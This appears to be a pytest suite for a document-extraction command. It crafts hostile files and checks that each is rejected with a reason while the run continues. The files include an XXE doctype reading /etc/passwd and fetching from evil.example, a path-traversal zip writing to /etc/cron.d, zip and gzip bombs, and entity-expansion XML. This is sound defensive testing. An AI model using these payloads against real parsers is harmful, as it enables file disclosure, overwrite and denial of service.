"""Files built to break their reader, through the command and its limits: each ends with its reason, the run goes on."""

from __future__ import annotations

import gzip
import re
import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

import pytest

from haiguan import exits
from output import jsonl
from output.jsonl import Json
from tests.extract.formats.forms import applications, disclosure
from tests.extract.formats.wordml import p, package
from tests.generator.render.docx import render_docx
from tests.generator.render.ofd import render_ofd
from tests.generator.render.rezip import rewritten
from tests.haiguan.command import run

pdf = pytest.importorskip("tests.generator.render.pdf", reason="reportlab renders the PDFs of these tests")
xlsx = pytest.importorskip("tests.generator.render.xlsx", reason="XlsxWriter renders the workbooks of these tests")

PDF = pdf.render_pdf(["主动公开情况", disclosure()])
DOCX, OFD = render_docx([applications()]), render_ofd([applications()])
XLSX = xlsx.render_xlsx({"Sheet1": applications()})
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000

ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'
EXTERNAL = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://evil.example/x"> %b;]>'
BOMB = b" " * 20_000_000


def plain_pdf(content: bytes, pages: int = 1) -> bytes:
    """A PDF of pages that all have the same content."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<<>>>>"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        *[page] * pages,
    ]
    out, places = bytearray(b"%PDF-1.4\n"), []
    for i, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (i, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(bodies) + 1, len(out))
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table + end


def png(width: int, height: int) -> bytes:
    """A white picture of one bit a pixel, packed as small as it goes."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * (width // 8)
    data = b"".join(packer.compress(row * 500) for _ in range(height // 500)) + packer.flush()
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    made = (struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d)) for t, d in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(made)


def with_doctype(data: bytes, member: str, doctype: bytes) -> bytes:
    declared = re.compile(rb"<\?xml.*?\?>\s*")
    return rewritten(data, lambda name, xml: doctype + declared.sub(b"", xml, 1) if name == member else xml)


def inflated(data: bytes, member: str) -> bytes:
    return rewritten(data, lambda name, xml: xml + BOMB if name == member else xml)


def lying(data: bytes) -> bytes:
    """An archive whose directory says that its members are small."""
    made, at = bytearray(data), 0
    while (at := made.find(b"PK\x01\x02", at)) >= 0:
        struct.pack_into("<I", made, at + 24, 10)
        at += 4
    return bytes(made)


def locked_member(data: bytes) -> bytes:
    """An archive all of whose members ask for a password."""
    made = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := made.find(signature, at)) >= 0:
            made[at + offset] |= 1
            at += 4
    return bytes(made)


def corrupt_font(data: bytes) -> bytes:
    made = bytearray(data)
    start = made.find(b"stream", made.find(b"/Length1"))
    made[start + 10 : start + 2000] = b"x" * 1990
    return bytes(made)


def climbing() -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("../../etc/cron.d/a", b"x")
        archive.writestr("/abs/b", b"x")
    return target.getvalue()


ENCRYPTED = "encrypted"
ENTITY = "declares a document type"
DEEP = "<w:tbl><w:tr><w:tc>" * 80 + p("正文") + "</w:tc></w:tr></w:tbl>" * 80

FILES: dict[str, tuple[bytes, str, str]] = {
    "good.pdf": (PDF, "record", ""),
    "encrypted.pdf": (pdf.render_pdf([disclosure()], pdf.Style(password="o", user_password="s")), "unreadable", "password"),
    "encrypted.docx": (CFB + b"\0\0" + "EncryptedPackage".encode("utf-16-le") + b"\0\0", "unreadable", ENCRYPTED),
    "encrypted.xlsx": (CFB + b"\0\0" + "EncryptedPackage".encode("utf-16-le") + b"\0\0", "unreadable", ENCRYPTED),
    "locked.docx": (locked_member(DOCX), "unreadable", ENCRYPTED),
    "locked.ofd": (locked_member(OFD), "unreadable", ENCRYPTED),
    "truncated.pdf": (PDF[:400], "unreadable", "damaged PDF"),
    "truncated.docx": (DOCX[:-300], "unreadable", "damaged zip"),
    "truncated.xlsx": (XLSX[:3000], "unreadable", "damaged zip"),
    "truncated.ofd": (OFD[:1000], "unreadable", "damaged zip"),
    "truncated.doc": (CFB, "unreadable", "no document is found"),
    "truncated.png": (png(800, 1000)[:60], "unreadable", "picture"),
    "bomb.docx": (inflated(DOCX, "word/document.xml"), "unreadable", "times their size"),
    "bomb.xlsx": (inflated(XLSX, "xl/worksheets/sheet1.xml"), "unreadable", "times their size"),
    "bomb.ofd": (inflated(OFD, "OFD.xml"), "unreadable", "times their size"),
    "bomb.gz": (gzip.compress(b" " * 300_000_000, 1), "unreadable", "bytes unpacked"),
    "lying.docx": (lying(inflated(DOCX, "word/document.xml")), "unreadable", "damaged"),
    "entities.docx": (with_doctype(DOCX, "word/document.xml", ENTITIES), "unreadable", ENTITY),
    "entities.xlsx": (with_doctype(XLSX, "xl/sharedStrings.xml", ENTITIES), "unreadable", ENTITY),
    "entities.ofd": (with_doctype(OFD, "OFD.xml", ENTITIES), "unreadable", ENTITY),
    "external.docx": (with_doctype(DOCX, "word/document.xml", EXTERNAL), "unreadable", ENTITY),
    "external.xlsx": (with_doctype(XLSX, "xl/worksheets/sheet1.xml", EXTERNAL), "unreadable", ENTITY),
    "external.ofd": (with_doctype(OFD, "Doc_0/Pages/Page_0/Content.xml", EXTERNAL), "unreadable", ENTITY),
    "pages.pdf": (plain_pdf(b"", 10_000), "record", "the first 1000 of 10000 pages"),
    "rectangles.pdf": (plain_pdf(b"1 1 2 2 re f\n" * 1_000_000), "record", "1000000 drawing objects"),
    "huge.png": (png(50_000, 50_000), "unreadable", "too large"),
    "font.pdf": (corrupt_font(PDF), "record", ""),
    "deep.docx": (package(DEEP), "record", "nested more than 20 deep"),
    "wide.docx": (package(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr>{p("甲")}</w:tc></w:tr></w:tbl>'), "record", ""),
    "spans.html": (b"<html><table>" + b"<tr><td colspan=1000000 rowspan=1000000>1<td>2" * 2000, "record", "1000 columns"),
    "deep.html": (b"<html>" + b"<div>" * 200_000 + b"x" + b"</div>" * 200_000, "record", ""),
    "open.html": (b"<html>" + b"<table><tr><td>" * 5_000, "record", "deeper than 256"),
    "nul.txt": (b"\0" * 100_000, "unreadable", "control bytes"),
    "line.txt": (b"36" * 100_000, "record", ""),
    "error.pdf": (b"<html><title>404 Not Found</title><h1>404</h1>", "unreadable", "404 Not Found"),
    "climbing.zip": (climbing(), "unreadable", "2 files"),
    "zz_good.docx": (render_docx(["收到申请36件。", disclosure()]), "record", ""),
}  # fmt: skip
"""Name -> bytes, what becomes of it (`record`, or the kind of failure), what is said of it."""


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    """For each file its kind of outcome and all that was said of it, from one run of the command."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    for name, (data, _, _) in FILES.items():
        (folder / "in" / name).write_bytes(data)
    limits = ("--jobs", "2", "--timeout", "40", "--memory", "1536")
    result = run("extract", folder / "in", "-o", folder / "out", "--failures", folder / "failures", *limits)
    assert result.exit_code == exits.INCOMPLETE and "Traceback" not in result.output
    return {**_records(folder / "out"), **_failures(folder / "failures")}


def _lines(path: Path) -> list[Json]:
    return [jsonl.decode(line) for line in path.read_bytes().splitlines()]


def _records(path: Path) -> dict[str, tuple[str, str]]:
    said = {r["source"]["uri"]: " ".join(problem["message"] for problem in r["problems"]) for r in _lines(path)}
    return {uri.rpartition("/")[2]: ("record", messages) for uri, messages in said.items()}


def _failures(path: Path) -> dict[str, tuple[str, str]]:
    return {f["uri"].rpartition("/")[2]: (f["kind"], f"{f['reason']}; {f['advice']}") for f in _lines(path)}


@pytest.mark.parametrize("name", FILES)
def test_each_hostile_file_ends_with_its_reason_and_the_run_goes_on(name: str, outcomes: dict[str, tuple[str, str]]) -> None:
    _, kind, reason = FILES[name]
    found, said = outcomes[name]
    assert found == kind and reason in said
